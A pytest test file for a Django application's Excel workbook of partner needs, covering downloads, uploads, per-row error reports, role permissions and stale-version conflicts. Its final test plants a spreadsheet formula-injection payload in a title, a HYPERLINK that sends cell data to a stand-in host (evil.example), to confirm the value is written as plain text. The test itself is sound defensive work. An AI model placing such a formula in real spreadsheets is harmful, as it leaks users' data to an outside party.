"""The needs workbook: download, upload as a whole, the row-level report, and who may do what."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from iisg.core import workbook as wb
from iisg.core.choices import Role
from iisg.core.tests import factories as f
from iisg.needs import workbook
from iisg.needs.choices import CycleStatus, NeedStatus, Priority
from iisg.needs.models import Need

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    serbia = f.PartnerFactory(code="RS")
    albania = f.PartnerFactory(code="AL")
    pillar = f.PillarFactory(code="wbbsi")
    cycle = f.CycleFactory()
    area = f.AreaFactory(cycle=cycle, pillar=pillar, code="2.3")
    secretariat = f.UserFactory(roles=[Role.SECRETARIAT])
    focal = f.UserFactory(roles=[Role.FOCAL_POINT])
    f.PersonFactory(user=focal, partner=serbia)
    rs = f.NeedFactory(cycle=cycle, partner=serbia, pillar=pillar, area=area, reference="RS-1", status=NeedStatus.DRAFT)
    al = f.NeedFactory(
        cycle=cycle, partner=albania, pillar=pillar, area=area, reference="AL-1", status=NeedStatus.DRAFT
    )
    return {"serbia": serbia, "albania": albania, "pillar": pillar, "cycle": cycle, "area": area,
            "secretariat": secretariat, "focal": focal, "rs": rs, "al": al}  # fmt: skip


def state():
    """What an upload may change: the needs and their history."""
    return (
        Need.objects.count(),
        Need.history.count(),
        sorted(Need.objects.values_list("reference", "title", "priority")),
    )


def sheet_rows(data, name="Needs"):
    rows = list(load_workbook(io.BytesIO(data))[name].values)
    return rows[0], rows[1:]


def edit(data, changes=(), append=()):
    """The workbook with cells changed ({(row, header): value}) and rows appended ({header: value})."""
    book = load_workbook(io.BytesIO(data))
    sheet = book["Needs"]
    headers = [cell.value for cell in sheet[1]]
    for (row, header), value in dict(changes).items():
        sheet.cell(row=row, column=headers.index(header) + 1).value = value  # None empties the cell
    for values in append:
        sheet.append([values.get(header) for header in headers])
    return wb.to_bytes(book)


def new_row(**values):
    return {"Reference": "RS-9", "Partner": "Serbia", "Pillar": "WBBSi", "Area code": "2.3", "Title": "Scanners",
            "Priority": "High", **values}  # fmt: skip


def test_focal_point_downloads_only_its_own_partners_needs(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    headers, rows = sheet_rows(data)
    assert [row[0] for row in rows] == ["RS-1"]
    assert headers[:3] == ("Reference", "Partner", "Pillar")


def test_secretariat_downloads_all_or_one_partner(world):
    data = workbook.build_workbook(user=world["secretariat"], cycle=world["cycle"])
    assert sorted(row[0] for row in sheet_rows(data)[1]) == ["AL-1", "RS-1"]
    data = workbook.build_workbook(user=world["secretariat"], cycle=world["cycle"], partner=world["albania"])
    assert [row[0] for row in sheet_rows(data)[1]] == ["AL-1"]


def test_downloaded_workbook_has_notes_frozen_header_drop_downs_and_reference_sheets(world):
    book = load_workbook(io.BytesIO(workbook.build_workbook(user=world["secretariat"], cycle=world["cycle"])))
    assert book.sheetnames == ["Needs", "Code lists", "Areas"]
    sheet = book["Needs"]
    assert sheet.freeze_panes == "A2"
    assert "reference" in sheet["A1"].comment.text.lower()
    lists = {dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert "'Code lists'!$A$2:$A$3" in lists  # partners
    assert any(formula.startswith("Areas!") for formula in lists)
    assert list(book["Areas"].values)[1][:2] == ("WBBSi", "2.3")


def test_round_trip_without_changes_changes_nothing(world):
    data = workbook.build_workbook(user=world["secretariat"], cycle=world["cycle"])
    before = state()
    outcome = workbook.upload_workbook(user=world["secretariat"], cycle=world["cycle"], data=data)
    assert outcome.ok, outcome.problems
    assert (outcome.added, outcome.changed, outcome.unchanged) == (0, 0, 2)
    assert state() == before


def test_upload_adds_and_changes_and_the_same_file_twice_changes_nothing(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    data = edit(data, {(2, "Priority"): "Low"}, [new_row()])
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert outcome.ok, outcome.problems
    assert (outcome.added, outcome.changed, outcome.unchanged) == (1, 1, 0)
    added = Need.objects.get(reference="RS-9")
    assert (added.status, added.partner, added.area) == (NeedStatus.DRAFT, world["serbia"], world["area"])
    assert added.history.first().history_user == world["focal"]
    world["rs"].refresh_from_db()
    assert world["rs"].priority == Priority.LOW
    before = state()
    again = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert (again.added, again.changed, again.unchanged) == (0, 0, 2)
    assert state() == before


def test_every_bad_row_is_reported_at_once_and_nothing_is_written(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    data = edit(
        data,
        {(2, "Title"): "Changed title"},
        [
            new_row(Reference="RS-7", Partner="Sebria"),
            new_row(Reference="RS-8", Priority="Urgent", Pillar="WBBS"),
            new_row(Reference="RS-9", **{"Area code": "9.9"}),
            new_row(Reference="RS-9", Title="Again"),
        ],
    )
    before = state()
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    reasons = {(p.row, p.coordinate, p.reason) for p in outcome.problems}
    assert (3, "B3", "unknown partner “Sebria”; did you mean Serbia?") in reasons
    assert any(
        p.row == 4 and p.coordinate == "I4" and "unknown priority “Urgent”" in p.reason for p in outcome.problems
    )
    assert any(p.row == 4 and p.coordinate == "C4" and "did you mean WBBSi?" in p.reason for p in outcome.problems)
    assert any(p.row == 5 and p.coordinate == "D5" and "unknown area “9.9”" in p.reason for p in outcome.problems)
    assert any(p.row == 6 and "also on row 5" in p.reason for p in outcome.problems)
    assert len(outcome.problems) >= 5
    assert state() == before


def test_focal_point_uploading_a_row_for_albania_gets_a_row_error_and_nothing_is_written(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    data = edit(data, {(2, "Priority"): "Low"}, [new_row(Reference="AL-9", Partner="Albania")])
    before = state()
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert [(p.row, p.reason) for p in outcome.problems] == [
        (3, "Only the partner's focal point or the Secretariat adds needs of Albania.")
    ], "the reason the back office and the API give too (needs.services.refuse_creation)"
    assert state() == before


def test_focal_point_cannot_change_albanias_need_through_its_reference(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    data = edit(data, {}, [new_row(Reference="AL-1", Title="Taken over")])
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert [p.reason for p in outcome.problems] == ["this reference cannot be used: choose another one"]


def test_a_reference_of_another_partners_draft_is_refused_without_telling_it_exists(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    data = edit(data, {}, [new_row(Reference="AL-1", Title="Taken over")])
    before = state()
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    (problem,) = outcome.problems
    assert problem.reason == str(workbook.UNUSABLE_REFERENCE)
    for telling in ("see", "taken", "draft"):
        assert telling not in problem.reason
    assert state() == before


def test_adopted_need_is_frozen_and_a_closed_cycle_refuses_rows(world):
    data = edit(workbook.build_workbook(user=world["focal"], cycle=world["cycle"]), {(2, "Title"): "New title"})
    Need.objects.filter(pk=world["rs"].pk).update(status=NeedStatus.ADOPTED)
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert "is frozen" in outcome.problems[0].reason
    Need.objects.filter(pk=world["rs"].pk).update(status=NeedStatus.DRAFT)
    world["cycle"].status = CycleStatus.IN_REVIEW
    world["cycle"].save()
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert "is in review: its needs can no longer be changed by their partner" in outcome.problems[0].reason


def test_unchanged_submitted_need_is_no_error_for_its_focal_point(world):
    Need.objects.filter(pk=world["rs"].pk).update(status=NeedStatus.SUBMITTED)
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert outcome.ok
    changed = edit(data, {(2, "Title"): "Other"})
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=changed)
    assert "is submitted: only the Secretariat changes it now" in outcome.problems[0].reason


# The back-office pages


def test_changelist_links_and_download_page(client, world):
    client.force_login(world["focal"])
    page = client.get(reverse("admin:needs_need_changelist"))
    assert reverse("admin:needs_need_workbook_download") in page.content.decode()
    response = client.get(reverse("admin:needs_need_workbook_download"), {"cycle": world["cycle"].pk})
    assert response["Content-Type"] == wb.XLSX_CONTENT_TYPE
    assert [row[0] for row in sheet_rows(response.content)[1]] == ["RS-1"]


def test_upload_page_reports_errors_and_serves_the_annotated_copy(client, world):
    client.force_login(world["focal"])
    data = edit(workbook.build_workbook(user=world["focal"], cycle=world["cycle"]), {}, [new_row(Partner="Sebria")])
    url = reverse("admin:needs_need_workbook_upload")
    page = client.post(url, {"cycle": world["cycle"].pk, "file": _file(data)})
    assert page.status_code == 200
    assert "unknown partner “Sebria”; did you mean Serbia?" in page.content.decode()
    annotated = client.get(page.context["annotated_url"])
    book = load_workbook(io.BytesIO(b"".join(annotated.streaming_content)))
    assert book.sheetnames[0] == "Errors"
    assert book["Needs"]["B3"].fill.fgColor.rgb.endswith("FFC7CE")
    other = client.__class__()
    other.force_login(world["secretariat"])
    assert other.get(page.context["annotated_url"]).status_code == 404


def test_upload_page_applies_a_clean_workbook_and_refuses_a_bad_file(client, world):
    client.force_login(world["focal"])
    data = edit(workbook.build_workbook(user=world["focal"], cycle=world["cycle"]), {}, [new_row()])
    url = reverse("admin:needs_need_workbook_upload")
    page = client.post(url, {"cycle": world["cycle"].pk, "file": _file(data)})
    assert page.context["outcome"].added == 1
    assert Need.objects.filter(reference="RS-9").exists()
    page = client.post(url, {"cycle": world["cycle"].pk, "file": _file(b"%PDF-1.4 not a workbook")})
    assert "a PDF document, not an Excel workbook" in page.content.decode()


def test_member_cannot_download_or_upload(client, world):
    member = f.UserFactory(roles=[Role.MEMBER])
    client.force_login(member)
    assert client.get(reverse("admin:needs_need_workbook_download")).status_code == 403
    assert client.get(reverse("admin:needs_need_workbook_upload")).status_code == 403
    data = workbook.build_workbook(user=world["secretariat"], cycle=world["cycle"])
    response = client.post(
        reverse("admin:needs_need_workbook_upload"), {"cycle": world["cycle"].pk, "file": _file(data)}
    )
    assert response.status_code == 403


def _file(data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("needs.xlsx", data, content_type=wb.XLSX_CONTENT_TYPE)


# A workbook downloaded before someone else's change


def test_a_stale_row_is_refused_naming_who_changed_what_and_their_correction_stays(world):
    """The focal point downloads; the Secretariat then corrects a title; the focal point changes
    only a priority in the old file and uploads: refused, nothing written, the correction kept."""
    from iisg.needs import services

    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    world["secretariat"].first_name, world["secretariat"].last_name = "Ana", "Hoxha"
    world["secretariat"].save()
    services.update_need(
        user=world["secretariat"], need=world["rs"], changes={"title": "Thermal cameras (corrected)"}, version=1
    )
    before = state()

    outcome = workbook.upload_workbook(
        user=world["focal"], cycle=world["cycle"], data=edit(data, {(2, "Priority"): "Low"})
    )

    assert not outcome.ok
    [problem] = outcome.problems
    assert (problem.row, problem.column, problem.value) == (2, "Version", "1")
    assert problem.reason.startswith("Need RS-1 was changed by Ana Hoxha at ")
    assert "after this workbook was downloaded (title). Download the workbook again" in problem.reason
    assert state() == before
    world["rs"].refresh_from_db()
    assert (world["rs"].title, world["rs"].priority) == ("Thermal cameras (corrected)", world["rs"].priority)


def test_an_untouched_row_of_an_old_download_is_no_conflict(world):
    data = workbook.build_workbook(user=world["secretariat"], cycle=world["cycle"])
    world["al"].title = "Changed since"
    world["al"].save()
    # The file's AL-1 row is now stale, but it is changed nowhere in the file: only RS-1 is.
    rows = {row[0]: number for number, row in enumerate(sheet_rows(data)[1], start=2)}
    stale = edit(data, {(rows["AL-1"], "Title"): "Changed since", (rows["RS-1"], "Priority"): "Medium"})
    outcome = workbook.upload_workbook(user=world["secretariat"], cycle=world["cycle"], data=stale)
    assert outcome.ok, outcome.problems
    assert (outcome.changed, outcome.unchanged) == (1, 1)


def test_a_workbook_upload_changes_a_need_through_the_service_with_its_history(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    outcome = workbook.upload_workbook(
        user=world["focal"], cycle=world["cycle"], data=edit(data, {(2, "Priority"): "Medium"})
    )
    assert outcome.ok
    world["rs"].refresh_from_db()
    assert (world["rs"].priority, world["rs"].version) == (Priority.MEDIUM, 2)
    latest = world["rs"].history.first()
    assert (latest.history_user, latest.history_change_reason) == (world["focal"], "Excel workbook upload")


def test_a_row_of_an_existing_need_without_its_version_is_refused(world):
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    outcome = workbook.upload_workbook(
        user=world["focal"], cycle=world["cycle"], data=edit(data, {(2, "Priority"): "Medium", (2, "Version"): None})
    )
    assert [(p.row, p.column) for p in outcome.problems] == [(2, "Version")]
    assert "has no version: download the workbook again" in outcome.problems[0].reason


def test_a_title_that_looks_like_a_formula_is_written_as_text_and_uploads_back_unchanged(world):
    world["rs"].title = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
    world["rs"].save()
    data = workbook.build_workbook(user=world["focal"], cycle=world["cycle"])
    cell = load_workbook(io.BytesIO(data))["Needs"]["G2"]
    assert (cell.value, cell.data_type) == (world["rs"].title, "s")
    outcome = workbook.upload_workbook(user=world["focal"], cycle=world["cycle"], data=data)
    assert (outcome.ok, outcome.unchanged) == (True, 1)
